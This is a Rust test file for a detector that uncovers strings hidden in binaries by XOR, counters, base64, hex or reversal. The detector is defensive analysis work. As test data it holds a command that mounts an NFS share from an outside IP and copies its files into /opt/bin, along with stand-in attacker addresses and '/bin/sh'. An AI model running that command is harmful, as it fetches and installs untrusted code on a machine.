//! Texts hidden by hand, and bytes that cost much or look hidden and are not.

use super::*;

/// `text` and a NUL in the middle of what stands in a program.
fn among(stored: &[u8]) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x01\x01\x00plain text here\0\xe5\x9f\xf0\x18\0\0\0\0".to_vec();
    bytes.extend_from_slice(stored);
    bytes.extend_from_slice(b"\0\0\0\0\x13\x37/etc/hosts\0\xff\xfe%d.%d.%d.%d\0");
    bytes
}

fn xor(text: &[u8], key: &[u8]) -> Vec<u8> {
    let with_nul = text.iter().chain(b"\0");
    with_nul
        .zip(key.iter().cycle())
        .map(|(byte, key)| byte ^ key)
        .collect()
}

/// All readings of what is hidden, each with how.
fn read(bytes: &[u8]) -> Vec<(String, String)> {
    let hidden = Hidden::of(bytes);
    assert!(!hidden.cut);
    let readings = hidden.texts.iter().flat_map(HiddenText::readings);
    let read = readings.map(|it| {
        (
            it.hiding.to_string(),
            String::from_utf8_lossy(it.text).into_owned(),
        )
    });
    read.collect()
}

fn shows(stored: &[u8], how: &str, text: &str) {
    let read = read(&among(stored));
    assert!(
        read.contains(&(how.to_owned(), text.to_owned())),
        "{text} by {how} is not in {read:?}"
    );
}

const COMMAND: &str = "mount -t nfs 202.114.4.119:/pm /mnt; cp -rf /mnt/* /opt/bin/";

#[test]
fn commands_under_keys_of_one_to_four_bytes() {
    for key in (1..=u8::MAX).filter(|&key| key != 0x20) {
        shows(
            &xor(COMMAND.as_bytes(), &[key]),
            &format!("XOR with {key:#04x}"),
            COMMAND,
        );
    }
    shows(
        &xor(COMMAND.as_bytes(), &[0xa5, 0x31]),
        "XOR with 0xa5 0x31",
        COMMAND,
    );
    shows(
        &xor(COMMAND.as_bytes(), &[1, 2, 3]),
        "XOR with 0x01 0x02 0x03",
        COMMAND,
    );
    shows(
        &xor(COMMAND.as_bytes(), b"Key!"),
        "XOR with 0x4b 0x65 0x79 0x21",
        COMMAND,
    );
}

#[test]
fn commands_under_counters_sums_and_backwards() {
    let counter = |first: u8, step: u8| {
        let mut key = first;
        COMMAND.bytes().chain([0]).map(move |byte| {
            let now = key;
            key = key.wrapping_add(step);
            (byte, now)
        })
    };
    for first in [0, 1, 7, 0x7e, 0xf8] {
        let up: Vec<u8> = counter(first, 1).map(|(byte, key)| byte ^ key).collect();
        shows(
            &up,
            &format!("XOR with a counter up from {first:#04x}"),
            COMMAND,
        );
        let down: Vec<u8> = counter(first, 0xff)
            .map(|(byte, key)| byte.wrapping_add(key))
            .collect();
        shows(
            &down,
            &format!("added: a counter down from {first:#04x}"),
            COMMAND,
        );
    }
    let added: Vec<u8> = counter(3, 0)
        .map(|(byte, key)| byte.wrapping_add(key))
        .collect();
    shows(&added, "added: 0x03", COMMAND);
    let back: Vec<u8> = COMMAND.bytes().rev().chain([0]).collect();
    shows(&back, "backwards", COMMAND);
    let both: Vec<u8> = COMMAND.bytes().rev().map(|byte| byte ^ 0x99).collect();
    shows(&both, "XOR with 0x99, backwards", COMMAND);
}

#[test]
fn encodings() {
    use base64::Engine as _;
    let engine = base64::engine::general_purpose::STANDARD;
    shows(engine.encode(COMMAND).as_bytes(), "base64", COMMAND);
    shows(
        engine.encode("45.77.12.9").trim_end_matches('=').as_bytes(),
        "base64",
        "45.77.12.9",
    );
    let digits = format!("{:02X?}", COMMAND.as_bytes()).replace(['[', ']', ',', ' '], "");
    shows(digits.as_bytes(), "hexadecimal digits", COMMAND);
}

#[test]
fn addresses_under_keys() {
    for address in ["202.114.4.119", "45.77.12.9", "91.9.9.10"] {
        let is_letter = |key: u8| matches!(key, b'.' | b'0'..=b'9');
        for key in (1..=u8::MAX).filter(|&key| !is_letter(key)) {
            shows(
                &xor(address.as_bytes(), &[key]),
                &format!("XOR with {key:#04x}"),
                address,
            );
        }
    }
    shows(
        &xor(b"202.114.45.119", b"3"),
        "XOR with 0x33",
        "202.114.45.119",
    );
    let added: Vec<u8> = b"202.114.4.119\0"
        .iter()
        .map(|byte| byte.wrapping_add(0x77))
        .collect();
    shows(&added, "added: 0x77", "202.114.4.119");
    shows(
        &xor(b"202.114.4.119", &[0xa5, 0x31]),
        "XOR with 0xa5 0x31",
        "202.114.4.119",
    );
    // Every second byte is the same digit: nothing tells which.
    let stored = among(&xor(b"41.151.141.131", &[0xc4, 0x31]));
    let texts: Vec<String> = read(&stored).into_iter().map(|it| it.1).collect();
    assert_eq!(texts, ["4?.?5?.?4?.?3?"]);
    // Here only one other digit makes numbers below 256.
    let stored = among(&xor(b"159.147.250.154", &[0xc4, 0x31]));
    assert_eq!(read(&stored)[0].1, "159.147.250.154");
}

#[test]
fn what_is_no_public_address_is_not_told() {
    for text in [
        "192.168.1.20",
        "10.0.0.138",
        "1.2.3",
        "2.0.0.11.5",
        "300.1.1.1",
        "01.02.03.04",
        "127.0.0.1",
    ] {
        assert_eq!(read(&among(&xor(text.as_bytes(), &[0x5a]))), [], "{text}");
    }
    assert_eq!(
        read(&among(
            b"202.114.4.119\0mount -t nfs a:/b /mnt\0TELNETD -L\0"
        )),
        []
    );
    // Numbers of two bytes.
    let numbers: Vec<u8> = [3, 0, 4, 0, 5, 0, 6, 0, 9]
        .into_iter()
        .flat_map(|number: u8| [number, 0])
        .collect();
    assert_eq!(read(&numbers), []);
}

#[test]
fn the_text_is_told_from_what_stands_around_it() {
    // Under this key the zeros before and behind are letters.
    let mut bytes = vec![0; 9];
    bytes.extend(COMMAND.bytes().map(|byte| byte ^ 0x5a));
    bytes.extend([0; 9]);
    let read = read(&bytes);
    assert!(read.iter().any(|(_, text)| text == COMMAND), "{read:?}");
    let hidden = Hidden::of(&bytes);
    let reading = hidden.texts[0]
        .readings()
        .find(|it| it.text == COMMAND.as_bytes())
        .unwrap();
    assert_eq!(reading.offset, 9);
}

#[test]
fn a_text_at_the_very_end_is_found() {
    for text in ["/bin/sh", COMMAND] {
        let bytes: Vec<u8> = text.bytes().map(|byte| byte ^ 0x91).collect();
        assert!(
            read(&bytes).iter().any(|(_, found)| found == text),
            "{text}"
        );
    }
}

#[test]
fn hostile_bytes_are_bounded() {
    assert_eq!(Hidden::of(&[]), Hidden::default());
    for byte in [0, 1, b'.', b'A', 0xff] {
        assert_eq!(Hidden::of(&vec![byte; 1 << 20]).texts, [], "{byte}");
    }
    let letters: Vec<u8> = b"L2Jpbi9zaCAtYw"
        .iter()
        .copied()
        .cycle()
        .take(3 << 20)
        .collect();
    assert!(Hidden::of(&letters).texts.len() <= MOST);
    let many: Vec<u8> = xor(b"/bin/", &[0x5a])
        .into_iter()
        .cycle()
        .take(1 << 20)
        .collect();
    assert!(Hidden::of(&many).cut);
    let quads: Vec<u8> = xor(b"1.1.1.1.1.1.1.1.", &[0x15])
        .into_iter()
        .cycle()
        .take(1 << 20)
        .collect();
    assert!(Hidden::of(&quads).texts.len() <= MOST);
    let bytes = among(&xor(COMMAND.as_bytes(), &[0x5a]));
    for end in 0..bytes.len() {
        let hidden = Hidden::of(&bytes[..end]);
        for reading in hidden.texts.iter().flat_map(HiddenText::readings) {
            assert!(index(reading.offset) + reading.text.len() <= end);
        }
    }
}
